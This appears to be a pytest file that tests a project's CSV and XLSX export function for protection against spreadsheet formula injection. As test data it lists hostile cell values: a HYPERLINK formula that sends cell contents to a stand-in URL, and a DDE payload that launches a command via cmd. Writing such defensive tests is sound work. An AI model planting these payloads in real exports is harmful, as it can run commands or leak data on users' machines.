"""Downloads are safe to open in a spreadsheet: text that looks like a formula stays text."""

import csv
import io

import openpyxl
import pytest

from vmi_programme.exports import export_response

MALICIOUS = [
    '=HYPERLINK("http://x"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
COLUMNS = [("title", "Title"), ("change", "Change")]


def _rows():
    return [{"title": text, "change": -3} for text in MALICIOUS] + [
        {"title": "Clinic letters", "change": -2.5}
    ]


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_csv_cells_that_would_be_formulas_start_with_a_quote():
    rows = _csv_rows(export_response(_rows(), "t", fmt="csv", columns=COLUMNS))
    titles = [row[0] for row in rows[1:]]
    assert titles == ["'" + text for text in MALICIOUS] + ["Clinic letters"]


def test_csv_negative_numbers_stay_numbers():
    rows = _csv_rows(export_response(_rows(), "t", fmt="csv", columns=COLUMNS))
    assert [row[1] for row in rows[1:]] == ["-3"] * len(MALICIOUS) + ["-2.5"]


def test_xlsx_cells_are_values_never_formulas():
    response = export_response(_rows(), "t", fmt="xlsx", columns=COLUMNS)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.value for cell in cells][:5] == ["'" + text for text in MALICIOUS[:5]]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row), (
        "no cell may hold a formula"
    )


def test_xlsx_negative_numbers_stay_numbers():
    response = export_response(_rows(), "t", fmt="xlsx", columns=COLUMNS)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    changes = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in changes] == [-3] * len(MALICIOUS) + [-2.5]
    assert all(cell.data_type == "n" for cell in changes)


@pytest.mark.parametrize("text", ["Clinic letters", "3 days", "A&E", "it's fine"])
def test_ordinary_text_is_left_as_it_is(text):
    rows = _csv_rows(export_response([{"title": text}], "t", fmt="csv"))
    assert rows[1] == [text]
